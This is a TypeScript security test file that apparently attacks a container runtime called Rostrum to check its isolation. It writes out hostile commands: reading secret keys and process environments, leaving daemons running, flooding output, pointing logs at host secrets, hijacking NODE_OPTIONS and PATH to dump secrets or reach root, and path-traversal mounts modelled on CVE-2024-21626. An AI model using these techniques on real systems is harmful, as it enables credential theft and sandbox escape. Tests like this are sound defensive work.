import { statSync } from "node:fs";
import { type Attack, program } from "../support/attack";

const doors = "A6 · other doors";
const state = "A5 · what Rostrum keeps";
const start = "how it is started";

const readAll = (field: {
  canaries: { secretKey: string; backup: string; homeFile: string; workerPid: number };
}) => {
  const { secretKey, backup, homeFile, workerPid } = field.canaries;
  const words = `cat ${secretKey} ${backup} ${homeFile} /proc/${workerPid}/environ /proc/${process.pid}/environ /proc/*/environ`;
  return `(${words}) 2>/dev/null | tr '\\\\0' '\\\\n' | head -c 60000; id; true`;
};

/** Attacks through the other doors to a component: prepare commands, exec, its log and what is written down of it. */
export const doorAttacks: Attack[] = [
  {
    id: "prepare-reads",
    of: doors,
    aim: "keys and environments by a prepare command",
    async run(arena) {
      const name = await arena.deploy({ spec: { prepare: [["sh", "-c", readAll(arena.field)]] } });
      await arena.logs(name);
    },
  },
  {
    id: "prepare-stays",
    of: doors,
    aim: "a daemon that a prepare command leaves behind",
    async run(arena) {
      const prepare = [
        ["perl", "kit.pl", "daemon", arena.token],
        ["sh", "-c", "(trap '' TERM HUP; while :; do sleep 1; done) > /dev/null 2>&1 &"],
      ];
      await arena.deploy({ spec: { prepare } });
    },
  },
  {
    id: "prepare-not-allowed",
    of: doors,
    aim: "a program that the administrator did not allow, by a prepare command",
    async run(arena) {
      await arena.reopen({ allowPrograms: [] });
      for (const [index, command] of [
        ["uname", "-a"],
        ["/bin/uname", "-a"],
        ["./../../../../../../bin/uname", "-a"],
      ].entries()) {
        const name = await arena.deploy({ spec: { prepare: [command] } }, `web${index}`);
        const text = await arena.logs(name).catch(() => "");
        if (/^(\[rostrum\] )?Linux .*GNU/m.test(text)) arena.reach(`it ran: ${command.join(" ")}`);
      }
    },
  },
  {
    id: "exec-reads",
    of: doors,
    aim: "keys and environments by a command in a component",
    async run(arena) {
      const name = await arena.deploy({});
      await arena.exec(name, ["sh", "-c", readAll(arena.field)]);
      await arena.exec(name, [
        "node",
        "-e",
        `console.log(require("fs").readFileSync("${arena.field.canaries.secretKey}", "utf8"))`,
      ]);
    },
  },
  {
    id: "exec-stays",
    of: doors,
    aim: "a daemon that a command leaves behind, holding its output open",
    async run(arena) {
      const name = await arena.deploy({});
      const startedMs = Date.now();
      await arena.exec(
        name,
        ["sh", "-c", "(trap '' TERM HUP; while :; do sleep 1; done) & echo started"],
        3_000,
      );
      await arena.exec(name, ["perl", "kit.pl", "daemon", arena.token], 3_000);
      if (Date.now() - startedMs > 20_000) arena.reach("the worker waited for a daemon's output");
    },
  },
  {
    id: "exec-endless",
    of: doors,
    aim: "memory and time of a worker by output without end",
    async run(arena) {
      const name = await arena.deploy({});
      const startedMs = Date.now();
      const text = await arena.exec(name, ["sh", "-c", "yes hostile"], 3_000);
      if (text.length > 4 * 2 ** 20) arena.reach(`${text.length} bytes of output were kept`);
      if (Date.now() - startedMs > 15_000) arena.reach("the worker waited for output without end");
    },
  },
  program(
    { id: "log-replaced", of: state, aim: "a file of the host, read as its log" },
    `const log = attempt("", () => fs.readlinkSync("/proc/self/fd/1")); say("log " + log);
     for (const path of [log, dirname(dirname(process.cwd())) + "/logs/output.log"]) attempt("", () => { fs.renameSync(path, path + ".aside"); fs.symlinkSync(T.secretKey, path); });
     attempt("", () => { const folder = dirname(log); fs.renameSync(folder, folder + ".aside"); fs.mkdirSync(folder); fs.symlinkSync(T.secretKey, folder + "/output.log"); });`,
    { waitMs: 4_000, after: async (arena, attacker) => void (await arena.logs(attacker)) },
  ),
  program(
    { id: "log-cut", of: state, aim: "a file of the host, cut because it passes for a long log" },
    `const log = attempt("", () => fs.readlinkSync("/proc/self/fd/1"));
     for (const path of [log, dirname(dirname(process.cwd())) + "/logs/output.log"]) attempt("", () => { fs.renameSync(path, path + ".aside"); fs.symlinkSync(T.precious + "/large", path); });`,
    {
      waitMs: 3_000,
      after: async (arena, attacker) => {
        await arena.sample(attacker);
        await arena.restart(attacker);
      },
    },
  ),
  program(
    { id: "record-forged", of: state, aim: "a worker ended by a forged record of its own" },
    `const record = dirname(dirname(process.cwd())) + "/component.json";
     attempt("", () => {
       const stat = fs.readFileSync("/proc/" + T.workerPid + "/stat", "utf8"); const startOf = stat.slice(stat.lastIndexOf(")") + 2).split(" ")[19];
       const text = JSON.parse(fs.readFileSync(record, "utf8"));
       text.processes = [...text.processes, { name: "r1", launch: "x", ports: [], pid: T.workerPid, start: startOf, startedAt: "" }];
       text.owner = null; fs.writeFileSync(record, JSON.stringify(text)); reach("its own record was rewritten");
     });
     for (const path of [record, ...T.roots.flatMap((root) => [root + "/ports/" + T.victim.port, root + "/clouds/cld_hostile/ports/" + T.victim.port, root + "/machine/ports/" + T.victim.port])])
       attempt("writing " + path, () => { fs.closeSync(fs.openSync(path, "r+")); });`,
  ),
  program(
    { id: "locks-held", of: state, aim: "a cloud that waits for a lock of its own making" },
    `for (const root of T.roots) for (const folder of [root + "/locks", root + "/clouds/cld_hostile/locks", root + "/machine/locks", root + "/clouds/cld_hostile", root + "/runtime"])
       attempt("writing into " + folder, () => { if (!fs.existsSync(folder)) return false; fs.writeFileSync(folder + "/" + token, ""); fs.rmSync(folder + "/" + token); });`,
  ),
  {
    id: "loader-settings",
    of: start,
    aim: "what starts it, by settings of the loader in its own environment",
    async run(arena) {
      const { precious } = arena.field.canaries;
      const environment = {
        LD_DEBUG: "files",
        LD_DEBUG_OUTPUT: `${precious}/planted`,
        LD_PROFILE_OUTPUT: precious,
      };
      const name = await arena.deploy({ spec: { environment, prepare: [["sh", "-c", "true"]] } });
      await arena.exec(name, ["sh", "-c", "true"]);
      await arena.copyOut(name, "app");
    },
  },
  {
    id: "runtime-settings",
    of: start,
    aim: "what starts it, by PATH and options of Node, Perl and shells in its own environment",
    async run(arena) {
      const { secretKey } = arena.field.canaries;
      const evil = `const fs = require("fs"); const T = JSON.parse(process.env.TARGETS ?? "{}"); try { fs.writeSync(2, "LOOT by option: " + fs.readFileSync("${secretKey}", "utf8") + "\\n"); } catch (error) { fs.writeSync(2, "denied: " + error.code + "\\n"); } if (process.getuid() === 0 && T.hostNamespaces && fs.readlinkSync("/proc/self/ns/user") === T.hostNamespaces.user) fs.writeSync(2, "REACHED root by an option\\n");`;
      const fake = {
        text: `#!/bin/sh\ncat ${secretKey} >&2\nid >&2\n[ "$(id -u)" = 0 ] && echo "REACHED root by PATH" >&2\nexit 1\n`,
        executable: true,
      };
      const names = [
        "bwrap",
        "unshare",
        "setpriv",
        "nsenter",
        "ip",
        "nft",
        "prlimit",
        "tar",
        "du",
        "git",
        "sh",
        "node",
        "mount",
      ];
      const files = {
        "app/evil.cjs": evil,
        ...Object.fromEntries(names.map((name) => [`app/bin/${name}`, fake])),
      };
      const environment = {
        NODE_OPTIONS: "--require={dir}/evil.cjs",
        PATH: "{dir}/bin:/usr/bin:/bin",
        PERL5OPT: "-d:Evil",
        BASH_ENV: "{dir}/bin/sh",
        ENV: "{dir}/bin/sh",
        GIT_SSH_COMMAND: "{dir}/bin/sh",
      };
      const name = await arena.deploy({ files, spec: { environment, volumes: ["data:/data"] } });
      await arena.exec(name, ["node", "-e", "0"]);
      await arena.copyOut(name, "data");
      await arena.sample(name);
      await arena.logs(name);
    },
  },
  {
    id: "odd-folders",
    of: start,
    aim: "a folder of the host as its volume, files or working directory (as CVE-2024-21626)",
    async run(arena) {
      const body = `for (const name of [".", "..", "/proc/self/cwd/..", process.env.DATA]) walk([name], { depth: 2, ms: 500 }); loot("secret.key"); loot("../secret.key");`;
      const odd = [
        { volumes: ["data:/proc/self/fd/8"] },
        { volumes: ["data:/../../../../data"] },
        { volumes: ["data:/app/./../../.."] },
        { files: { dir: "/proc/self/fd/7" } },
        { args: ["/proc/self/fd/7/attack.mjs"] },
        { volumes: ["..:/data"] },
      ];
      for (const [index, spec] of odd.entries()) {
        const name = await arena.deploy(
          { body, spec: { environment: { DATA: "{data}" }, ...spec } },
          `web${index}`,
        );
        await arena.logs(name).catch(() => "");
        await arena.copyOut(name, "data", { bytes: 2 ** 20, ms: 3_000 });
      }
      if (statSync(arena.field.canaries.base).uid !== (process.getuid?.() ?? 0))
        arena.reach("a folder of the host changed hands");
    },
  },
];
